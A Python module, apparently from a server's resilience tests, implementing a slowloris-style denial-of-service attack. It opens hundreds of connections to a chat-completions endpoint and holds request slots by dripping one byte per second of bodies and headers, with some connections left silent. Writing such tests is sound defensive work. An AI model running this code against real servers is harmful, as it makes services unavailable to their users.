"""Connections that never finish what they send: bodies and heads that drip, and plain silence.

A server that takes a place for a request before its body is there refuses everybody else, for as
long as the drip continues.
"""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from urllib.parse import urlsplit

FLAGS: tuple[str, ...] = ()
NUM_BODIES = 600  # more than the 512 requests that a server takes at once
NUM_HEADS = 100
NUM_SILENT = 100
_PAUSE_S = 1.0
_MAX_ROUNDS = 600  # so that the attack ends by itself
_LINE = b"POST /v1/chat/completions HTTP/1.1\r\n"
_HEAD = (
    _LINE + b"host: localhost\r\ncontent-type: application/json\r\ncontent-length: 1000000\r\n\r\n"
)


@contextmanager
def attack(url: str) -> Iterator[list[socket.socket]]:
    """Open the connections, and send a byte on each of them every second."""
    beginnings = [_HEAD] * NUM_BODIES + [_LINE + b"x-drip: "] * NUM_HEADS + [b""] * NUM_SILENT
    connections = [connect(url, beginning) for beginning in beginnings]
    is_over = threading.Event()

    def drip() -> None:
        for _ in range(_MAX_ROUNDS):
            if is_over.wait(_PAUSE_S):
                return
            for connection in connections[: NUM_BODIES + NUM_HEADS]:
                with suppress(OSError):  # the server has closed it
                    connection.send(b"a")

    thread = threading.Thread(target=drip)
    thread.start()
    try:
        yield connections
    finally:
        is_over.set()
        thread.join()
        for connection in connections:
            connection.close()


def connect(url: str, beginning: bytes) -> socket.socket:
    """Return a connection to the server on which so much was sent."""
    address = urlsplit(url)
    connection = socket.create_connection((address.hostname, address.port), timeout=60)
    connection.sendall(beginning)
    return connection
